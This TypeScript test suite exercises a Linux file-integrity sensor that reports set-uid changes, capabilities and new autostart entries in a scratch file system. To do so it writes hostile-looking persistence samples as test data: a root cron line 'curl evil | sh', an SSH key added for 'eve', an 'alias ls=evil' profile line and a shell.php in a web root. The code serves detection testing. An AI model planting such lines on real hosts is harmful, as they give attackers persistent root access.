import assert from 'node:assert/strict'
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { once } from 'node:events'
import { test, type TestContext } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'

import { must } from '../../../test/support/must.ts'
import { requireRoot, type Scratch, withScratch } from '../../../test/support/scratch.ts'
import { type SensorUnderTest, startSensor } from '../../../test/support/sensor.ts'
import type { Event } from '../../model/index.ts'
import type { FilesOptions } from './options.ts'
import { filesSensorWith } from './index.ts'

/** A host of its own on a tmpfs, with the places that the tables name. */
function makeHost(t: TestContext): Scratch {
  const host = withScratch(t)
  for (const folder of [
    'etc/cron.d',
    'etc/sudoers.d',
    'usr/bin',
    'tmp',
    'home/ann/.ssh',
    'var/www',
    'srv/data',
    'opt/x',
  ])
    host.folder(...folder.split('/'))
  writeFileSync(host.at('etc', 'passwd'), 'root:x:0:0::/root:/bin/bash\nsvc:x:9:9::/srv/svc:/bin/sh\n')
  return host
}

/** As `SensorUnderTest`, with functions that can be taken out of it. */
interface Watched extends Omit<SensorUnderTest, 'waitFor' | 'until'> {
  readonly waitFor: (fits: (event: Event) => boolean, timeoutMs?: number) => Promise<Event>
  readonly until: (done: () => boolean, timeoutMs?: number) => Promise<void>
}

async function watch(
  t: TestContext,
  host: Scratch,
  options: Partial<FilesOptions> = {},
  stateFolder?: string,
): Promise<Watched> {
  const watched = await startSensor(t, filesSensorWith({ scanPauseMs: 0, ...options }), {
    root: host.path,
    ...(stateFolder === undefined ? {} : { stateFolder }),
  })
  // The sensor saves when it is stopped, which is before this.
  t.after(() => rmSync(watched.stateFolder, { recursive: true, force: true }))
  await watched.until(() => watched.sensor.status().facts['baseline'] === 'done')
  return {
    ...watched,
    waitFor: (fits, timeoutMs) => watched.waitFor(fits, timeoutMs),
    until: (done, timeoutMs) => watched.until(done, timeoutMs),
  }
}

/** The sensor does not listen to its own process: what happens is done by others. */
function sh(script: string, cwd: string): void {
  execFileSync('/bin/sh', ['-ec', script], { cwd })
}

const actions = (events: readonly Event[], path: string): string[] =>
  events.filter(({ file }) => file?.path === path).map(({ event }) => event.action)

test('a set-uid bit is told within 100 ms of the chmod, with the process that set it', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  sh('cp /bin/true tool', host.at('opt'))
  const { waitFor } = await watch(t, host)
  const child = spawn('/bin/sh', ['-c', 'chmod 4755 tool; echo done; read x'], {
    cwd: host.at('opt'),
    stdio: ['pipe', 'pipe', 'ignore'],
  })
  t.after(() => child.kill())
  await once(child.stdout, 'data')
  const done = performance.now()
  const event = await waitFor(({ event: { action } }) => action === 'setuid-added')
  const ms = performance.now() - done
  t.diagnostic(`${ms.toFixed(1)} ms after the chmod`)
  assert.ok(ms < 100, `${ms} ms`)
  assert.equal(event.file?.path, host.at('opt', 'tool'))
  assert.equal(event.file.mode, '4755')
  assert.equal(event.event.kind, 'alert')
  assert.deepEqual(event.threat?.technique?.id, ['T1548.001'])
  assert.ok(must(event.process).pid > 1)
  assert.notEqual(event.process?.pid, process.pid)
  assert.match(must(event.file.hash?.sha256), /^[0-9a-f]{64}$/)
})

test('privileges by install, setcap, mv, ln and unlink are told, each by its own action', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor, events } = await watch(t, host)
  const at = (name: string): string => host.at('opt', name)
  const told = (action: string, name: string): Promise<Event> =>
    waitFor(({ event, file }) => event.action === action && file?.path === at(name))
  sh('install -m 4755 /bin/true a', host.at('opt'))
  await told('setuid-added', 'a')
  sh('install -m 2755 /bin/true g', host.at('opt'))
  await told('setgid-added', 'g')
  sh('ln a linked', host.at('opt'))
  await told('setuid-added', 'linked')
  sh('mv a b', host.at('opt'))
  await told('setuid-removed', 'a')
  await told('setuid-added', 'b')
  sh('cp /bin/false other; chmod 4755 other; mv other b', host.at('opt'))
  const changed = await told('setuid-changed', 'b')
  assert.match(must(changed.event.reason), /its content/)
  sh('chmod u-s b; rm linked', host.at('opt'))
  await told('setuid-removed', 'b')
  await told('setuid-removed', 'linked')
  if (spawnSync('setcap', ['-v', '', '/bin/true']).error !== undefined)
    return t.skip('setcap is not installed')
  sh('cp /bin/true c; setcap cap_net_raw,cap_setuid=ep c', host.at('opt'))
  const capable = await told('capability-added', 'c')
  assert.deepEqual(must(capable.hx)['privilege'], {
    setuid: false,
    setgid: false,
    capabilities: 'cap_setuid,cap_net_raw=ep',
    package_database: 'absent',
  })
  sh('setcap -r c', host.at('opt'))
  await told('capability-removed', 'c')
  // One event each: a chmod is not told again by what comes after it.
  assert.deepEqual(
    actions(events, at('g')).filter((action) => action.startsWith('set')),
    ['setgid-added'],
  )
})

test('a set-uid file below a directory that is renamed is found under its new name', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor } = await watch(t, host)
  sh('mkdir -p deep/er; install -m 4755 /bin/true deep/er/a', host.at('opt'))
  await waitFor(({ event }) => event.action === 'setuid-added')
  sh('mv deep moved', host.at('opt'))
  await waitFor(
    ({ event, file }) =>
      event.action === 'setuid-removed' && file?.path === host.at('opt', 'deep', 'er', 'a'),
  )
  await waitFor(
    ({ event, file }) => event.action === 'setuid-added' && file?.path === host.at('opt', 'moved', 'er', 'a'),
  )
  // The handles of the directories were known by their old paths.
  sh('install -m 4755 /bin/true moved/er/b; install -m 4755 /bin/true moved/c', host.at('opt'))
  await waitFor(({ file }) => file?.path === host.at('opt', 'moved', 'c'))
  await waitFor(({ file }) => file?.path === host.at('opt', 'moved', 'er', 'b'))
})

test('what Linux 5.9 can tell is enough to follow set-uid files and directories through renames', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor, sensor } = await watch(t, host, { kernel: 'linux-5.9' })
  assert.equal(sensor.status().tier, 'fanotify-5.9')
  const told = (action: string, name: string): Promise<Event> =>
    waitFor(({ event, file }) => event.action === action && file?.path === host.at('opt', name))
  sh('install -m 4755 /bin/true a; mkdir d', host.at('opt'))
  await told('setuid-added', 'a')
  sh('mv a d/b', host.at('opt'))
  await told('setuid-removed', 'a')
  await told('setuid-added', 'd/b')
  sh('mv d e', host.at('opt'))
  await told('setuid-removed', 'd/b')
  await told('setuid-added', 'e/b')
})

test(
  '40,000 files made and deleted while nobody reads for 4 seconds: none is lost',
  { timeout: 60_000 },
  async (t) => {
    if (!requireRoot(t)) return
    const host = makeHost(t)
    const { sensor, until, events, losses } = await watch(t, host, { tell: 'everything' })
    const script = `
    const fs = require('node:fs')
    for (let i = 0; i < 20000; i++) fs.closeSync(fs.openSync('f' + i, 'w'))
    for (let i = 0; i < 20000; i++) fs.unlinkSync('f' + i)
    for (let d = 0; d < 20; d++) {
      fs.mkdirSync('d' + d)
      for (let i = 0; i < 1000; i++) fs.closeSync(fs.openSync('d' + d + '/g' + i, 'w'))
      for (let i = 0; i < 1000; i++) fs.unlinkSync('d' + d + '/g' + i)
      fs.rmdirSync('d' + d)
    }`
    const child = spawn(process.execPath, ['-e', script], { cwd: host.at('srv', 'data'), stdio: 'inherit' })
    await Promise.all([once(child, 'exit'), delay(4000)])
    assert.equal(child.exitCode, 0)
    const before = process.cpuUsage()
    const isFile = ({ file }: Event): boolean => /\/[fg]\d+$/.test(file?.path ?? '')
    const namesOf = (action: string): Set<string | undefined> =>
      new Set(
        events
          .filter((event) => event.event.action === action && isFile(event))
          .map(({ file }) => file?.path),
      )
    await until(
      () => sensor.status().facts['pending'] === 0 && Number(sensor.status().facts['events']) >= 40_000,
      20_000,
    )
    const cpu = process.cpuUsage(before)
    const { facts } = sensor.status()
    t.diagnostic(
      `${((cpu.user + cpu.system) / Number(facts['events'])).toFixed(1)} µs of CPU for each of ${facts['events']} events`,
    )
    assert.equal(namesOf('create').size, 40_000)
    assert.equal(namesOf('delete').size, 40_000)
    assert.deepEqual(losses, [])
    // Directories that were gone long before anybody looked are known by the handles of their creation.
    assert.equal(facts['unresolved'], 0)
    assert.equal(facts['overflows'], 0)
  },
)

test(
  'a limited queue that overflows is a loss, and a scan finds what was missed',
  { timeout: 60_000 },
  async (t) => {
    if (!requireRoot(t)) return
    const host = makeHost(t)
    const { sensor, waitFor, losses, until } = await watch(t, host, { queue: 'limited' })
    assert.equal(sensor.status().tier, 'fanotify-limited')
    const script = `
    const fs = require('node:fs')
    for (let i = 0; i < 17000; i++) fs.closeSync(fs.openSync('f' + i, 'w'))
    fs.writeFileSync('../../etc/cron.d/late', '* * * * * root /tmp/x\\n')
    fs.copyFileSync('/bin/true', 'late'); fs.chmodSync('late', 0o4755)`
    execFileSync(process.execPath, ['-e', script], { cwd: host.at('srv', 'data') })
    await until(() => losses.length > 0)
    assert.equal(losses[0]?.source, 'fanotify')
    assert.equal(losses[0].count, 0)
    const cron = await waitFor(({ event }) => event.action === 'autostart-added')
    assert.equal(cron.file?.path, host.at('etc', 'cron.d', 'late'))
    assert.equal(cron.event.provider, 'scan')
    const late = await waitFor(({ event }) => event.action === 'setuid-added')
    assert.equal(late.file?.path, host.at('srv', 'data', 'late'))
    assert.equal(late.process, undefined)
  },
)

test('an autostart file is told with its digest, its place and the lines that came and went', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  writeFileSync(host.at('etc', 'cron.d', 'job'), '# mine\n* * * * * root /bin/true\n')
  const { waitFor, events } = await watch(t, host)
  assert.equal(events.length, 0)
  sh('echo "* * * * * root curl evil | sh" >> cron.d/job', host.at('etc'))
  const event = await waitFor(({ event: { action } }) => action === 'autostart-changed')
  const { autostart } = must(event.hx)
  assert.deepEqual(
    { ...(autostart as object), previous_sha256: '' },
    { kind: 'cron', technique: 'T1053.003', previous_sha256: '', added: ['* * * * * root curl evil | sh'] },
  )
  assert.deepEqual(event.event.category, ['file', 'configuration'])
  const digest = execFileSync('sha256sum', [host.at('etc', 'cron.d', 'job')], { encoding: 'utf8' }).slice(
    0,
    64,
  )
  assert.equal(event.file?.hash?.sha256, digest)
  assert.ok(must(event.process).pid > 1)
  sh(
    'echo "ssh-ed25519 AAAA eve" > home/ann/.ssh/authorized_keys; rm etc/cron.d/job; touch etc/cron.d/empty',
    host.path,
  )
  const key = await waitFor(({ file }) => file?.path === host.at('home', 'ann', '.ssh', 'authorized_keys'))
  assert.equal(key.event.action, 'autostart-added')
  assert.deepEqual(key.threat?.technique?.id, ['T1098.004'])
  await waitFor(({ event: { action } }) => action === 'autostart-removed')
  const count = events.length
  sh('touch etc/cron.d/empty; touch srv/data/quiet; echo x > opt/notes.txt', host.path)
  sh('echo "alias ls=evil" > srv/svc-is-not-there-yet; mkdir srv/svc; echo x > srv/svc/.profile', host.path)
  const profile = await waitFor(({ file }) => file?.path === host.at('srv', 'svc', '.profile'))
  assert.equal(profile.event.action, 'autostart-added')
  // A touch, and files that are no programs where nobody watches, are no news.
  assert.equal(events.slice(count).filter(({ file }) => !file?.path?.endsWith('.profile')).length, 0)
})

test('a directory that is moved into an autostart place brings its files with it', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor } = await watch(t, host)
  sh(
    'mkdir -p opt/x/units; echo "[Service]" > opt/x/units/evil.service; mkdir -p etc/systemd; mv opt/x/units etc/systemd/system',
    host.path,
  )
  const event = await waitFor(({ event: { action } }) => action === 'autostart-added')
  assert.equal(event.file?.path, host.at('etc', 'systemd', 'system', 'evil.service'))
})

test('programs are told wherever they appear, other files only where the tables say so', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor, events, until, sensor } = await watch(t, host)
  sh(
    'cp /bin/true tmp/elf; chmod 644 tmp/elf; printf "#!/bin/sh\\n" > srv/data/script; echo text > srv/data/text',
    host.path,
  )
  sh(
    'echo "<?php" > var/www/shell.php; echo 1 > etc/setting; mv tmp/elf tmp/renamed; rm tmp/renamed',
    host.path,
  )
  const script = await waitFor(({ file }) => file?.path === host.at('srv', 'data', 'script'))
  assert.deepEqual(script.hx?.['file'], { program: true })
  const web = await waitFor(({ file }) => file?.path === host.at('var', 'www', 'shell.php'))
  assert.deepEqual(web.hx?.['file'], { place: 'web-root' })
  await until(() => actions(events, host.at('etc', 'setting')).length > 0)
  await until(() => sensor.status().facts['pending'] === 0)
  assert.deepEqual(actions(events, host.at('srv', 'data', 'text')), [])
})

test('names of 255 bytes, and names that are no text, are told as far as they can be', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor } = await watch(t, host)
  const long = 'n'.repeat(255)
  sh(
    `install -m 4755 /bin/true ${long}; install -m 4755 /bin/true "$(printf 'bad\\377name')"; printf x > "$(printf 'a\\nb')"`,
    host.at('usr', 'bin'),
  )
  await waitFor(({ event, file }) => event.action === 'setuid-added' && file?.name === long)
  await waitFor(({ event, file }) => event.action === 'setuid-added' && file?.name === 'bad\ufffdname')
  await waitFor(({ file }) => file?.name === 'a\nb')
})

test('what changed while nobody looked is told at the next start, and only that', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  sh(
    'install -m 4755 /bin/true opt/old; install -m 4755 /bin/true opt/same; echo a > etc/cron.d/same; echo a > etc/cron.d/old',
    host.path,
  )
  const first = await watch(t, host)
  assert.deepEqual(first.events, [])
  await first.sensor.stop()
  sh(
    'rm opt/old; install -m 4755 /bin/true opt/new; echo b > etc/cron.d/old; echo c > etc/cron.d/new; mkdir etc/cron.daily',
    host.path,
  )
  const second = await watch(t, host, {}, first.stateFolder)
  const told = second.events.map(
    ({ event, file }) => `${event.action} ${file?.path?.slice(host.path.length)}`,
  )
  assert.deepEqual(told.toSorted(), [
    'autostart-added /etc/cron.d/new',
    'autostart-changed /etc/cron.d/old',
    'setuid-added /opt/new',
    'setuid-removed /opt/old',
  ])
  assert.ok(
    second.events.every(({ event }) => event.provider === 'scan' && /not running/.test(event.reason ?? '')),
  )
})

test('a file system that is mounted later is watched, looked through, and can be unmounted', async (t) => {
  if (!requireRoot(t)) return
  const host = makeHost(t)
  const { waitFor, sensor, until } = await watch(t, host)
  const point = host.folder('mnt')
  sh(`mount -t tmpfs haechi-test ${point} && install -m 4755 /bin/true ${point}/before`, '/')
  try {
    const before = await waitFor(({ file }) => file?.path === `${point}/before`)
    assert.match(must(before.event.reason), /mounted/)
    sh('install -m 4755 /bin/true after', point)
    const after = await waitFor(
      ({ event, file }) => event.action === 'setuid-added' && file?.path === `${point}/after`,
    )
    assert.equal(after.event.provider, 'fanotify')
    assert.equal(sensor.status().facts['file_systems'], 2)
  } finally {
    // Busy while a scan is in there; not for ever, or administrators would be locked out.
    let isGone = false
    await until(() => (isGone ||= spawnSync('umount', [point]).status === 0))
  }
  await until(() => sensor.status().facts['file_systems'] === 1)
})

test('an ext4 image on a loop device is watched as well', async (t) => {
  if (!requireRoot(t)) return
  if (spawnSync('mkfs.ext4', ['-V']).error !== undefined) return t.skip('mkfs.ext4 is not installed')
  const host = withScratch(t)
  sh('truncate -s 8M image && mkfs.ext4 -q -F image', host.path)
  const root = host.folder('root')
  try {
    host.mount('-o', 'loop', host.at('image'), root)
  } catch (thrown) {
    return t.skip(`no loop device: ${String(thrown)}`)
  }
  mkdirSync(`${root}/opt`)
  const watched = await startSensor(t, filesSensorWith({ scanPauseMs: 0 }), { root })
  t.after(() => rmSync(watched.stateFolder, { recursive: true, force: true }))
  sh('install -m 4755 /bin/true a; mkdir gone; install -m 4755 /bin/true gone/b; rm -r gone', `${root}/opt`)
  const event = await watched.waitFor(({ event: { action } }) => action === 'setuid-added')
  assert.equal(event.file?.path, `${root}/opt/a`)
  await watched.sensor.stop()
})
